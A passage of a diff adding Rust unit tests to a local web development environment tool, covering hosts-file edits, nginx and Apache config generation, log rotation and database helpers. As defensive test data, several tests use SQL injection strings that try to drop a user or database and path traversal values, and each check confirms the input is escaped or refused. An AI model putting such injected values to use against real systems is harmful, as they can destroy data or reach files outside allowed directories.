+        let (_, args) = tunnel_args("ngrok", "app.test", 443, true);
+        assert_eq!(args[..3], ["http".to_string(), "https://127.0.0.1:443".to_string(), "--host-header=app.test".to_string()]);
+
+        // A domain that could reach outside the PID directory is refused up front
+        assert!(tool_tunnel_stop("../../orbit").unwrap_err().starts_with("Invalid domain name"));
+    }
+
+    #[test]
+    fn test_apply_xdebug_ini_adds_section_and_toggles() {
+        let ini = "[PHP]\nmemory_limit=256M\n";
+        let enabled = apply_xdebug_ini(ini, true, "debug");
+        assert_eq!(
+            enabled,
+            "[PHP]\nmemory_limit=256M\n\n[xdebug]\nzend_extension=xdebug\nxdebug.mode=debug\nxdebug.client_port=9003\n"
+        );
+
+        // CRLF files stay CRLF
+        assert_eq!(
+            apply_xdebug_ini("[PHP]\r\nmemory_limit=256M\r\n", true, "debug"),
+            "[PHP]\r\nmemory_limit=256M\r\n\r\n[xdebug]\r\nzend_extension=xdebug\r\nxdebug.mode=debug\r\nxdebug.client_port=9003\r\n"
+        );
+
+        // Disabling comments the extension out in place and keeps its path
+        let custom = "[xdebug]\nzend_extension=\"C:\\php\\ext\\php_xdebug.dll\"\nxdebug.mode=debug\n";
+        let disabled = apply_xdebug_ini(custom, false, "off");
+        assert!(disabled.contains(";zend_extension=\"C:\\php\\ext\\php_xdebug.dll\""));
+        assert!(disabled.contains("xdebug.mode=off\n"));
+        assert!(disabled.contains("[xdebug]\nxdebug.client_port=9003\n"));
+        assert_eq!(apply_xdebug_ini(&disabled, false, "off"), disabled);
+    }
+
+    #[test]
+    fn test_protocol_pings_need_a_real_reply() {
+        use std::io::Write as _;
+        // Answers every connection with `reply`, then hangs up
+        fn fake_server(reply: &'static [u8]) -> u16 {
+            let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+            let port = listener.local_addr().unwrap().port();
+            std::thread::spawn(move || {
+                for mut stream in listener.incoming().flatten() {
+                    let mut buf = [0u8; 256];
+                    let _ = stream.read(&mut buf);
+                    let _ = stream.write_all(reply);
+                }
+            });
+            port
+        }
+
+        assert_eq!(http_ping(fake_server(b"HTTP/1.1 200 OK\r\n\r\n"), "/").unwrap(), "HTTP/1.1 200 OK");
+        assert!(http_ping(fake_server(b"garbage"), "/").is_err());
+        assert_eq!(redis_ping(fake_server(b"+PONG\r\n")).unwrap(), "+PONG");
+        assert!(redis_ping(fake_server(b"HTTP/1.1 400 Bad Request\r\n")).is_err());
+    }
+
+    #[test]
+    fn test_rotate_log_shifts_and_prunes_copies() {
+        let tmp = tempfile::tempdir().unwrap();
+        let bin = tmp.path().to_path_buf();
+        let logs = bin.join("php").join("8.4").join("logs");
+        fs::create_dir_all(&logs).unwrap();
+        let live = logs.join("php_errors.log");
+        fs::write(&live, "current").unwrap();
+        fs::write(logs.join("php_errors.log.1"), "older").unwrap();
+        fs::write(logs.join("php_errors.log.2"), "oldest").unwrap();
+
+        assert!(rotate_log(&bin, "php-8.4/../../secret", 2).is_err());
+        assert!(rotate_log(&bin, "php-8.4/missing.log", 2).is_err());
+
+        let rotation = rotate_log(&bin, "php-8.4/php_errors.log", 2).unwrap();
+        assert_eq!(rotation.size, 7);
+        assert_eq!(rotation.removed, vec![logs.join("php_errors.log.2")]);
+        assert_eq!(fs::read_to_string(&live).unwrap(), "");
+        assert_eq!(fs::read_to_string(logs.join("php_errors.log.1")).unwrap(), "current");
+        assert_eq!(fs::read_to_string(logs.join("php_errors.log.2")).unwrap(), "older");
+        assert!(!logs.join("php_errors.log.3").exists());
+
+        // A huge keep is clamped rather than walked copy by copy
+        assert_eq!(rotate_log(&bin, "php-8.4/php_errors.log", usize::MAX).unwrap().keep, LOG_ROTATE_MAX_KEEP);
+    }
+
+    #[test]
+    fn test_startup_priority_puts_php_before_web_servers() {
+        let mut names = vec!["nginx", "mariadb", "php-8.4", "redis", "apache", "mailpit", "postgresql"];
+        names.sort_by_key(|n| startup_priority(n));
+        assert_eq!(names, vec!["redis", "mailpit", "mariadb", "postgresql", "php-8.4", "nginx", "apache"]);
+    }
+
+    #[test]
+    fn test_watch_backoff_grows_and_caps() {
+        assert_eq!(watch_backoff_secs(0), 0);
+        assert_eq!(watch_backoff_secs(1), WATCH_BACKOFF_BASE_SECS);
+        assert_eq!(watch_backoff_secs(3), WATCH_BACKOFF_BASE_SECS * 4);
+        assert_eq!(watch_backoff_secs(40), WATCH_BACKOFF_MAX_SECS);
+    }
+
+    #[test]
+    fn test_db_account_and_privileges_are_validated() {
+        assert_eq!(db_account("app", "localhost").unwrap(), "'app'@'localhost'");
+        assert!(db_account("app'; DROP USER root; --", "localhost").is_err());
+        assert!(db_account("app", "local'host").is_err());
+        assert_eq!(sql_string_literal(r"it's a \ test"), r"'it\'s a \\ test'");
+
+        assert_eq!(parse_db_privileges("select,  insert , lock   tables").unwrap(), "SELECT, INSERT, LOCK TABLES");
+        assert!(parse_db_privileges("SELECT, SUPER").is_err());
+        assert!(parse_db_privileges(" , ").is_err());
+    }
+
+    #[test]
+    fn test_identifiers_cannot_break_out_of_quotes() {
+        assert_eq!(escape_identifier("foo`bar"), "`foo``bar`");
+        assert_eq!(escape_identifier("x`; DROP DATABASE mysql; --"), "`x``; DROP DATABASE mysql; --`");
+        assert_eq!(escape_identifier("foo\"bar"), "`foo\"bar`");
+
+        assert_eq!(pg_escape_identifier("foo\"bar"), "\"foo\"\"bar\"");
+        assert_eq!(pg_escape_identifier("foo`bar"), "\"foo`bar\"");
+        assert_eq!(pg_string_literal(&pg_escape_identifier("it's")), "'\"it''s\"'");
+        assert_eq!(pg_escape_table_name("users"), "\"users\"");
+        assert_eq!(pg_escape_table_name("public.users"), "\"public\".\"users\"");
+        assert_eq!(pg_escape_table_name("app.x\"y"), "\"app\".\"x\"\"y\"");
+    }
+
+    #[test]
+    fn test_sqlite_db_path_requires_existing_absolute_file() {
+        assert!(sqlite_db_path("").is_err());
+        assert!(sqlite_db_path("db.sqlite3").unwrap_err().contains("absolute"));
+
+        let dir = tempfile::tempdir().unwrap();
+        let db = dir.path().join("sqlite-test.db");
+        assert!(sqlite_db_path(&db.to_string_lossy()).unwrap_err().contains("not found"));
+        fs::write(&db, "").unwrap();
+        assert_eq!(sqlite_db_path(&db.to_string_lossy()).unwrap(), db);
+
+        assert_eq!(sqlite_string_literal("it's"), "'it''s'");
+    }
+
+    #[test]
+    fn test_mongo_tool_document_count_reads_each_tool() {
+        let import = "2026-10-15T10:00:00.000+0000\tconnected to: mongodb://127.0.0.1/\n\
+                      2026-10-15T10:00:00.100+0000\t12 document(s) imported successfully. 0 document(s) failed to import.";
+        assert_eq!(mongo_tool_document_count(import), 12);
+
+        let export = "2026-10-15T10:00:00.000+0000\tconnected to: mongodb://127.0.0.1/\n\
+                      2026-10-15T10:00:00.100+0000\texported 7 records";
+        assert_eq!(mongo_tool_document_count(export), 7);
+
+        let dump = "2026-10-15T10:00:00.000+0000\twriting app.users to archive 'app.archive'\n\
+                    2026-10-15T10:00:00.100+0000\tdone dumping app.users (3 documents)\n\
+                    2026-10-15T10:00:00.200+0000\tdone dumping app.posts (40 documents)";
+        assert_eq!(mongo_tool_document_count(dump), 43);
+
+        let restore = "2026-10-15T10:00:00.300+0000\t43 document(s) restored successfully. 0 document(s) failed to restore.";
+        assert_eq!(mongo_tool_document_count(restore), 43);
+        assert_eq!(mongo_tool_document_count("connected to: mongodb://127.0.0.1/"), 0);
+    }
+
+    #[test]
+    fn test_scheduled_tasks_validate_and_come_due() {
+        let dir = std::env::temp_dir();
+        let dir = dir.to_string_lossy();
+        assert!(validate_scheduled_task("schedule-run", "php artisan schedule:run", 60, &dir).is_ok());
+        assert!(validate_scheduled_task("../escape", "true", 60, &dir).is_err());
+        assert!(validate_scheduled_task("fast", "true", CRON_MIN_INTERVAL_SECS - 1, &dir).is_err());
+        assert!(validate_scheduled_task("relative", "true", 60, "some/dir").is_err());
+
+        let mut task: ScheduledTask = serde_json::from_value(json!({
+            "name": "schedule-run", "command": "php artisan schedule:run", "interval_secs": 60, "working_dir": dir
+        })).unwrap();
+        assert!(scheduled_task_due(&task, 1_000));
+        task.last_run = Some(1_000);
+        assert!(!scheduled_task_due(&task, 1_059));
+        assert!(scheduled_task_due(&task, 1_060));
+        assert!(!scheduled_task_running(&task));
+    }
+
+    #[test]
+    fn test_hosts_write_is_tried_before_elevating() {
+        let attempts = std::cell::RefCell::new(Vec::new());
+        let denied = || {
+            attempts.borrow_mut().push("direct");
+            Err(std::io::Error::from(std::io::ErrorKind::PermissionDenied))
+        };
+        let elevate = || {
+            attempts.borrow_mut().push("elevated");
+            Ok(())
+        };
+        assert!(write_hosts_with_fallback(denied, elevate).is_ok());
+        assert_eq!(*attempts.borrow(), vec!["direct", "elevated"]);
+
+        // A writable hosts file never prompts
+        let elevate = || -> Result<(), String> { panic!("elevated without need") };
+        assert!(write_hosts_with_fallback(|| Ok(()), elevate).is_ok());
+        // Any other write failure elevates too, and reports elevation's error
+        let busy = || Err(std::io::Error::other("used by another process"));
+        assert_eq!(write_hosts_with_fallback(busy, || Err("denied".to_string())), Err("denied".to_string()));
+
+        #[cfg(unix)]
+        assert_eq!(sed_escape("127.0.0.1 my.test"), r"127\.0\.0\.1 my\.test");
+        #[cfg(unix)]
+        assert_eq!(sudo_hosts_remove_script("my.test"), r"/^[[:space:]]*[^#[:space:]]+[[:space:]]+my\.test([[:space:]]|#|$)/d");
+    }
+
+    #[test]
+    fn test_php_port_is_shared_by_config_and_runtime() {
+        assert_eq!(php_port("8.4"), Some(9004));
+        assert_eq!(php_port("8.14"), Some(9014));
+        assert_eq!(php_port("7.4"), Some(9074));
+        assert_eq!(php_port("8.4.12"), Some(9004));
+        for malformed in ["", "8", "8.", "8.x", "php-8.4", "8.100"] {
+            assert_eq!(php_port(malformed), None, "{}", malformed);
+        }
+        assert_eq!(get_service_port("php-8"), Some(DEFAULT_PHP_PORT));
+
+        let now = chrono_now();
+        let mut site = SiteMetadata {
+            domain: "app.test".to_string(),
+            aliases: vec![],
+            path: "/srv/app".to_string(),
+            port: 80,
+            php_version: None,
+            php_port: None,
+            ssl_enabled: false,
+            hsts: false,
+            gzip: false,
+            brotli: false,
+            ssl_cert_path: None,
+            ssl_key_path: None,
+            template: None,
+            web_server: "nginx".to_string(),
+            dev_port: None,
+            dev_command: None,
+            created_at: now.clone(),
+            updated_at: now,
+        };
+        // nginx and apache must proxy to the port the php-<version> service listens on
+        for version in ["8.4", "8.14", "7.4"] {
+            site.php_version = Some(version.to_string());
+            let port = get_service_port(&format!("php-{}", version)).unwrap();
+            let nginx = generate_site_nginx_config(&site, std::path::Path::new("/orbit/bin"));
+            assert!(nginx.contains(&format!("fastcgi_pass 127.0.0.1:{};", port)), "{}", version);
+            let apache = generate_site_apache_config(&site, std::path::Path::new("/orbit/bin"));
+            assert!(apache.contains(&format!("proxy:fcgi://127.0.0.1:{}\"", port)), "{}", version);
+        }
+    }
+
+    #[test]
+    fn test_port_listener_parsing() {
+        #[cfg(not(target_os = "windows"))]
+        {
+            let ss = "LISTEN 0 511 0.0.0.0:8080 0.0.0.0:* users:((\"node\",pid=4242,fd=21))\n\
+                      LISTEN 0 511    [::]:8080    [::]:* users:((\"node\",pid=4242,fd=22),(\"node\",pid=4243,fd=22))";
+            assert_eq!(parse_ss_pids(ss), vec![4242, 4242, 4243]);
+            assert!(parse_ss_pids("LISTEN 0 511 0.0.0.0:8080 0.0.0.0:*").is_empty());
+        }
+        #[cfg(target_os = "windows")]
+        {
+            let netstat = "  TCP    0.0.0.0:80       0.0.0.0:0      LISTENING       1234\n\
+                           TCP    0.0.0.0:8080     0.0.0.0:0      LISTENING       999\n\
+                           TCP    127.0.0.1:80     127.0.0.1:5000 ESTABLISHED     77";
+            assert_eq!(parse_netstat_listeners(netstat, 80), vec![1234]);
+        }
+
+        assert!(tool_whats_on_port(0).is_err());
+        assert!(tool_free_port(70_000, true).is_err());
+    }
+
+    #[test]
+    fn test_pid_alive_tells_live_from_gone() {
+        assert!(pid_alive(std::process::id()));
+
+        let mut child = Command::new(std::env::current_exe().unwrap())
+            .arg("--version")
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        let pid = child.id();
+        child.wait().unwrap();
+        assert!(!pid_alive(pid));
+    }
+
+    #[test]
+    fn test_ping_version_reads_each_client() {
+        assert_eq!(ping_version("mariadb", "ok\tversion\n1\t11.4.2-MariaDB\n").as_deref(), Some("11.4.2-MariaDB"));
+        let psql = " ok | version\n----+---------\n  1 | 16.3\n(1 row)\n";
+        assert_eq!(ping_version("postgresql", psql).as_deref(), Some("16.3"));
+        assert_eq!(ping_version("mongodb", "{\"ok\":1,\"version\":\"7.0.12\"}\n").as_deref(), Some("7.0.12"));
+        assert_eq!(ping_version("mariadb", ""), None);
+        assert!(ping_query("redis").is_none());
+    }
+
+    #[test]
+    fn test_db_process_list_and_status_parsing() {
+        let processes = batch_rows("Id\tUser\tHost\tdb\tCommand\tTime\tState\tInfo\n7\troot\tlocalhost:50112\tshop\tQuery\t12\tSending data\tSELECT * FROM orders\n8\troot\tlocalhost\tNULL\tSleep\t3\t\tNULL\n");
+        assert_eq!(processes.len(), 2);
+        assert_eq!(processes[0]["Id"], json!(7));
+        assert_eq!(processes[0]["Info"], json!("SELECT * FROM orders"));
+        assert_eq!(processes[1]["db"], Value::Null);
+
+        let status = batch_variables("Variable_name\tValue\nInnodb_buffer_pool_pages_total\t8000\nInnodb_buffer_pool_pages_free\t2000\nInnodb_buffer_pool_read_requests\t1000\nInnodb_buffer_pool_reads\t10\nSlow_queries\t4\n");
+        let variables = batch_variables("Variable_name\tValue\nmax_connections\t151\nslow_query_log\tOFF\nlong_query_time\t10.000000\n");
+        let report = db_status_report(&status, &variables);
+        assert_eq!(report["buffer_pool"]["usage_percent"], json!(75.0));
+        assert_eq!(report["buffer_pool"]["hit_rate_percent"], json!(99.0));
+        assert_eq!(report["queries"]["slow"], json!(4));
+        assert_eq!(report["queries"]["slow_query_log"], json!(false));
+        assert_eq!(report["connections"]["max_allowed"], json!(151));
+        assert_eq!(report["threads"]["running"], json!(0));
+    }
+
+    #[test]
+    fn test_cert_not_after_reads_der_validity() {
+        assert_eq!(base64_decode("TWFu\nTWE=").unwrap(), b"ManMa");
+        assert!(base64_decode("not*base64").is_none());
+
+        fn der(tag: u8, content: &[u8]) -> Vec<u8> {
+            let mut out = vec![tag];
+            if content.len() < 0x80 {
+                out.push(content.len() as u8);
+            } else {
+                out.extend([0x82, (content.len() >> 8) as u8, content.len() as u8]);
+            }
+            out.extend_from_slice(content);
+            out
+        }
+        let cert = |version: bool, not_after: Vec<u8>| {
+            let validity = der(0x30, &[der(0x17, b"240101000000Z"), not_after].concat());
+            let mut tbs = Vec::new();
+            if version {
+                tbs.extend(der(0xa0, &der(0x02, &[2])));
+            }
+            tbs.extend(der(0x02, &[0x42; 16]));
+            tbs.extend(der(0x30, &[0u8; 10]));
+            tbs.extend(der(0x30, &[0u8; 200])); // long-form length
+            tbs.extend(validity);
+            der(0x30, &[der(0x30, &tbs), der(0x30, &[0u8; 4])].concat())
+        };
+
+        let expiry = der_cert_not_after(&cert(true, der(0x17, b"270415123000Z"))).unwrap();
+        assert_eq!(expiry.to_rfc3339(), "2027-04-15T12:30:00+00:00");
+        let expiry = der_cert_not_after(&cert(false, der(0x18, b"20510101000000Z"))).unwrap();
+        assert_eq!(expiry.format("%Y-%m-%d").to_string(), "2051-01-01");
+        assert!(der_cert_not_after(&cert(true, der(0x17, b"garbage"))).is_none());
+        assert!(der_cert_not_after(&[0x30, 0x05, 0x01]).is_none());
+    }
+
+    #[test]
+    fn test_import_site_detects_framework_and_php() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().to_path_buf();
+        let project = |name: &str, files: &[&str]| {
+            let dir = root.join(name);
+            for file in files {
+                let path = dir.join(file);
+                fs::create_dir_all(path.parent().unwrap()).unwrap();
+                let content = if *file == "package.json" { r#"{ "devDependencies": { "vite": "^5.0.0" } }"# } else { "" };
+                fs::write(path, content).unwrap();
+            }
+            dir
+        };
+
+        let laravel = project("laravel", &["artisan", "composer.json", "public/index.php"]);
+        let detected = detect_project(&laravel).unwrap();
+        assert_eq!((detected.framework, detected.template), ("laravel", "laravel"));
+        assert_eq!(detected.doc_root, laravel.join("public"));
+
+        let wp = project("wp", &["wp-load.php", "index.php"]);
+        assert_eq!(detect_project(&wp).unwrap().template, "wordpress");
+
+        let vite = project("vite", &["package.json", "index.html"]);
+        let detected = detect_project(&vite).unwrap();
+        assert_eq!((detected.template, detected.proxy_port), ("reverse-proxy", Some(5173)));
+
+        let site = project("static", &["index.html"]);
+        assert_eq!(detect_project(&site).unwrap().template, "static");
+        assert!(detect_project(&project("empty", &["README.md"])).is_err());
+
+        let installed: Vec<String> = ["7.4", "8.1", "8.3", "8.10"].iter().map(|v| v.to_string()).collect();
+        assert_eq!(pick_php_version(None, &installed).as_deref(), Some("8.10"));
+        assert_eq!(pick_php_version(Some("^8.2"), &installed).as_deref(), Some("8.10"));
+        assert_eq!(pick_php_version(Some("^7.3"), &installed).as_deref(), Some("7.4"));
+        assert_eq!(pick_php_version(Some("~8.1.0 || ^7.4"), &installed).as_deref(), Some("8.1"));
+        assert_eq!(pick_php_version(Some("~8.0"), &installed).as_deref(), Some("8.10"));
+        assert_eq!(pick_php_version(Some(">=7.4 <8.2"), &installed).as_deref(), Some("8.1"));
+        assert_eq!(pick_php_version(Some(">=7.2, <=8.1.5"), &installed).as_deref(), Some("8.1"));
+        assert_eq!(pick_php_version(Some("8.3.*|7.4.*"), &installed).as_deref(), Some("8.3"));
+        assert_eq!(pick_php_version(Some("7.1 - 8.1"), &installed).as_deref(), Some("8.1"));
+        assert_eq!(pick_php_version(Some(">8.10"), &installed).as_deref(), Some("8.10"));
+        assert_eq!(pick_php_version(Some("^7.0 <7.4"), &installed), None);
+        assert_eq!(pick_php_version(Some(">=9.0"), &installed), None);
+        assert_eq!(pick_php_version(Some("^8.2"), &[]), None);
+    }
+
+    #[test]
+    fn test_wordpress_site_config() {
+        let bin_dir = PathBuf::from("/orbit/bin");
+        let site = SiteMetadata {
+            template: Some("wordpress".to_string()),
+            ..nginx_site("blog.test", Some("8.3"), false, false)
+        };
+        let conf = generate_site_nginx_config(&site, &bin_dir);
+        assert!(conf.contains("        try_files $uri $uri/ /index.php?$args;"));
+        assert!(conf.contains("    location ~ \\.php$ {\n        fastcgi_pass 127.0.0.1:9003;"));
+        assert!(conf.contains("        expires 30d;"));
+        assert!(conf.contains("    location = /xmlrpc.php {\n        deny all;"));
+        assert!(conf.contains("rewrite ^/wp-admin$ /wp-admin/ permanent;"));
+        // The uploads rule must win over the PHP handler
+        assert!(conf.find("(?:uploads|files)").unwrap() < conf.find("fastcgi_pass").unwrap());
+
+        // Other PHP sites keep the generic front controller
+        let plain = generate_site_nginx_config(&nginx_site("shop.test", Some("8.3"), false, false), &bin_dir);
+        assert!(plain.contains("/index.php?$query_string"));
+        assert!(!plain.contains("xmlrpc"));
+    }
+
+    #[test]
+    fn test_laravel_site_is_served_from_public() {
+        let bin_dir = PathBuf::from("/orbit/bin");
+        let site = SiteMetadata {
+            template: Some("laravel".to_string()),
+            ..nginx_site("app.test", Some("8.4"), false, false)
+        };
+        let conf = generate_site_nginx_config(&site, &bin_dir);
+        assert!(conf.contains("    root /srv/shop/public;\n    index index.php;\n"));
+        assert!(conf.contains("        try_files $uri $uri/ /index.php?$query_string;"));
+        assert!(conf.contains("    location = /index.php {\n        fastcgi_pass 127.0.0.1:9004;"));
+
+        // A path that already points at public/ isn't doubled, in either server
+        let public = SiteMetadata { path: "/srv/shop/public/".to_string(), ..site.clone() };
+        assert_eq!(site_doc_root(&public), "/srv/shop/public/");
+        assert!(generate_site_apache_config(&site, &bin_dir).contains("DocumentRoot \"/srv/shop/public\""));
+        assert_eq!(site_doc_root(&SiteMetadata { template: None, ..site }), "/srv/shop");
+    }
+
+    #[test]
+    fn test_user_blueprints_are_validated_and_override_builtins() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+        fs::write(dir.join("symfony.json"), r#"{ "name": "symfony", "description": "Symfony", "services": ["nginx", "php", "mariadb"], "template": "php", "scaffold": ["composer create-project symfony/skeleton ."] }"#).unwrap();
+        fs::write(dir.join("laravel.json"), r#"{ "name": "laravel-vite", "services": ["nginx", "php"], "template": "laravel" }"#).unwrap();
+        fs::write(dir.join("strapi.json"), r#"{ "name": "strapi", "services": ["nginx", "strapi-server"], "template": "reverse-proxy" }"#).unwrap();
+        fs::write(dir.join("broken.json"), "{ not json").unwrap();
+        fs::write(dir.join("notes.txt"), "ignored").unwrap();
+
+        let (user, skipped) = load_user_blueprints(&dir);
+        assert_eq!(user.iter().map(|b| b.name.as_str()).collect::<Vec<_>>(), vec!["laravel-vite", "symfony"]);
+        assert_eq!(skipped.iter().map(|(f, _)| f.as_str()).collect::<Vec<_>>(), vec!["broken.json", "strapi.json"]);
+        assert!(skipped[1].1.contains("strapi-server"));
+
+        let builtins: Vec<Blueprint> = builtin_blueprints().into_iter().map(Blueprint::from).collect();
+        let count = builtins.len();
+        let merged = merge_blueprints(builtins, user);
+        assert_eq!(merged.len(), count + 1);
+        let laravel = merged.iter().find(|b| b.name == "laravel-vite").unwrap();
+        assert_eq!(laravel.services, vec!["nginx", "php"]);
+        assert!(laravel.env_template.is_none());
+        assert_eq!(merged.last().unwrap().name, "symfony");
+        assert!(merged.iter().all(|b| b.source == "builtin" || b.source.ends_with(".json")));
+    }
+
+    #[test]
+    fn test_env_template_follows_ssl() {
+        let tpl = "APP_URL=http://{{domain}}\nASSET_URL={{scheme}}://{{domain}}/assets\nDB_DATABASE={{db_name}}\nALLOWED_HOSTS={{domain}},localhost\n";
+        let plain = render_env_template(tpl, "my-app.test", false);
+        assert!(plain.contains("APP_URL=http://my-app.test\n"));
+        assert!(plain.contains("ASSET_URL=http://my-app.test/assets"));
+        assert!(plain.contains("DB_DATABASE=my_app_test"));
+
+        let secure = render_env_template(tpl, "my-app.test", true);
+        assert!(secure.contains("APP_URL=https://my-app.test\n"));
+        assert!(secure.contains("ASSET_URL=https://my-app.test/assets"));
+        assert!(secure.contains("ALLOWED_HOSTS=my-app.test,localhost"));
+    }
+
+    #[test]
+    fn test_parse_cli_progress() {
+        assert_eq!(parse_cli_progress("[progress] 1024 4096"), Some((1024, Some(4096))));
+        // No Content-Length: bytes only
+        assert_eq!(parse_cli_progress("[progress] 1024 -"), Some((1024, None)));
+        assert_eq!(parse_cli_progress("[progress] lots -"), None);
+        assert_eq!(parse_cli_progress("Downloading..."), None);
+    }
+
+    #[test]
+    fn test_format_nginx_config() {
+        let input = "server {\nlisten 80;\n\n\n\n  server_name app.test app.test;\n        root /srv/app   # docroot\nlocation / {\ntry_files $uri /index.php;\n}\n}\nserver {\n    listen 80;\n    server_name app.test;\n    log_format main '$remote_addr'\n        '$status';\n}\n";
+        let (formatted, warnings) = format_nginx_config(input);
+        let expected = [
+            "server {",
+            "    listen 80;",
+            "",
+            "    server_name app.test app.test;",
+            "    root /srv/app   # docroot",
+            "    location / {",
+            "        try_files $uri /index.php;",
+            "    }",
+            "}",
+            "server {",
+            "    listen 80;",
+            "    server_name app.test;",
+            "    log_format main '$remote_addr'",
+            "        '$status';",
+            "}",
+        ];
+        assert_eq!(formatted, expected.join("\n") + "\n");
+        assert_eq!(warnings.len(), 3, "{:?}", warnings);
+        assert!(warnings[0].contains("listed twice"));
+        assert!(warnings[1].starts_with("Line 7: missing ';' after 'root /srv/app'"));
+        assert!(warnings[2].contains("duplicates the server block at line 6"));
+
+        // Braces inside quotes don't change the depth; a missing '}' is reported
+        let (formatted, warnings) = format_nginx_config("location / {\nreturn 200 '{ok}';\n");
+        assert_eq!(formatted, "location / {\n    return 200 '{ok}';\n");
+        assert_eq!(warnings, vec!["1 unclosed block(s): missing '}' at the end".to_string()]);
+    }
+
+    #[test]
+    fn test_site_dry_run_hosts_lines() {
+        let hosts = "127.0.0.1 localhost\n127.0.0.1 shop.test\n# 127.0.0.1 www.shop.test\n";
+        assert_eq!(hosts_entries_to_add(hosts, &["shop.test", "api.shop.test"], false), vec!["127.0.0.1 api.shop.test".to_string()]);
+        // Commented-out entries aren't removed
+        assert_eq!(hosts_entries_to_remove(hosts, &["shop.test", "www.shop.test"]), vec!["127.0.0.1 shop.test".to_string()]);
+    }
+
+    #[test]
+    fn test_hosts_entries_dual_stack() {
+        let dir = tempfile::tempdir().unwrap();
+        let (path, backups) = (dir.path().join("hosts"), dir.path().join("hosts-backups"));
+        fs::write(&path, "127.0.0.1 localhost\n::1 localhost\n192.168.1.20 app.test # lan\n").unwrap();
+
+        // A stale mapping is rewritten in place and ::1 is added once
+        add_hosts_entry_at(&path, &backups, "app.test", true).unwrap();
+        let expected = "127.0.0.1 localhost\n::1 localhost\n127.0.0.1 app.test # lan\n::1 app.test\n";
+        assert_eq!(fs::read_to_string(&path).unwrap(), expected);
+        add_hosts_entry_at(&path, &backups, "app.test", true).unwrap();
+        assert_eq!(fs::read_to_string(&path).unwrap(), expected);
+
+        // Duplicates of the same family collapse into one line
+        fs::write(&path, "127.0.0.1 app.test\n10.0.0.5 app.test\n").unwrap();
+        add_hosts_entry_at(&path, &backups, "app.test", false).unwrap();
+        assert_eq!(fs::read_to_string(&path).unwrap(), "127.0.0.1 app.test\n");
+
+        // Other names on a line keep their address: the domain moves to a
+        // line of its own
+        fs::write(&path, "192.168.1.20 app.test nas.lan # lan\n").unwrap();
+        add_hosts_entry_at(&path, &backups, "app.test", false).unwrap();
+        assert_eq!(fs::read_to_string(&path).unwrap(), "192.168.1.20 nas.lan # lan\n127.0.0.1 app.test\n");
+
+        // A secondary name already mapped to loopback counts as present
+        fs::write(&path, "127.0.0.1 localhost app.test\n::1 localhost\n").unwrap();
+        add_hosts_entry_at(&path, &backups, "app.test", true).unwrap();
+        assert_eq!(fs::read_to_string(&path).unwrap(), "127.0.0.1 localhost app.test\n::1 localhost\n::1 app.test\n");
+
+        // Removal drops every address, but not other domains or comments
+        fs::write(&path, "127.0.0.1 app.test\n::1 app.test\n10.0.0.5 app.test\n127.0.0.1 app.test.local\n# 127.0.0.1 app.test\n127.0.0.1 localhost app.test\n").unwrap();
+        remove_hosts_entry_at(&path, &backups, "app.test").unwrap();
+        assert_eq!(fs::read_to_string(&path).unwrap(), "127.0.0.1 app.test.local\n# 127.0.0.1 app.test\n127.0.0.1 localhost\n");
+    }
+
+    #[test]
+    fn test_hosts_backups_rotate() {
+        let dir = tempfile::tempdir().unwrap();
+        let hosts = dir.path().join("hosts");
+        let backup_dir = dir.path().join("hosts-backups");
+        fs::create_dir_all(&backup_dir).unwrap();
+        fs::write(backup_dir.join("hosts.bak"), "not ours").unwrap();
+
+        for (i, stamp) in ["20260101-000000", "20260102-000000", "20260103-000000"].iter().enumerate() {
+            fs::write(&hosts, format!("127.0.0.1 v{}.test\n", i)).unwrap();
+            backup_hosts_file(&hosts, &backup_dir, stamp, 2).unwrap();
+        }
+        let backups = hosts_backups(&backup_dir);
+        assert_eq!(backups, vec![backup_dir.join("hosts.orbit-20260102-000000.bak"), backup_dir.join("hosts.orbit-20260103-000000.bak")]);
+        assert_eq!(fs::read_to_string(&backups[1]).unwrap(), "127.0.0.1 v2.test\n");
+        assert!(backup_dir.join("hosts.bak").exists());
+    }
+
+    #[test]
+    fn test_write_atomic() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+        let path = dir.join("sites.json");
+        fs::write(&path, "{ \"sites\": [] }").unwrap();
+
+        write_atomic(&path, "{ \"sites\": [\"a.test\"] }").unwrap();
+        assert_eq!(fs::read_to_string(&path).unwrap(), "{ \"sites\": [\"a.test\"] }");
+        let names: Vec<_> = fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name()).collect();
+        assert_eq!(names, vec![std::ffi::OsString::from("sites.json")]);
+
+        // A rename that fails (the target is a directory) leaves no temp file behind
+        let blocked = dir.join("php.ini");
+        fs::create_dir_all(&blocked).unwrap();
+        assert!(write_atomic(&blocked, "memory_limit = 512M").is_err());
+        assert_eq!(fs::read_dir(&dir).unwrap().count(), 2);
+
+        // Concurrent writers in one process don't share a temp file
+        let writers: Vec<_> = (0..8).map(|i| {
+            let path = path.clone();
+            std::thread::spawn(move || write_atomic(&path, &format!("{{ \"writer\": {} }}", i)))
+        }).collect();
+        for writer in writers {
+            writer.join().unwrap().unwrap();
+        }
+        assert!(fs::read_to_string(&path).unwrap().starts_with("{ \"writer\": "));
+        assert_eq!(fs::read_dir(&dir).unwrap().count(), 2);
+
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
+            write_atomic(&path, "{}").unwrap();
+            assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
+        }
+    }
+
+    #[test]
+    fn test_sites_store_lock_keeps_concurrent_sites() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+
+        let handles: Vec<_> = ["a.test", "b.test"].iter().map(|domain| {
+            let (dir, domain) = (dir.clone(), domain.to_string());
+            std::thread::spawn(move || {
+                let _lock = FileLock::acquire(&dir.join("sites.json.lock")).unwrap();
+                let mut store = read_sites_store_in(&dir).unwrap();
+                // Widen the read-modify-write window
+                std::thread::sleep(std::time::Duration::from_millis(50));
+                store.sites.push(nginx_site(&domain, None, false, false));
+                write_sites_store_in(&dir, &store).unwrap();
+            })
+        }).collect();
+        for handle in handles {
+            handle.join().unwrap();
+        }
+
+        let mut domains: Vec<String> = read_sites_store_in(&dir).unwrap().sites.into_iter().map(|s| s.domain).collect();
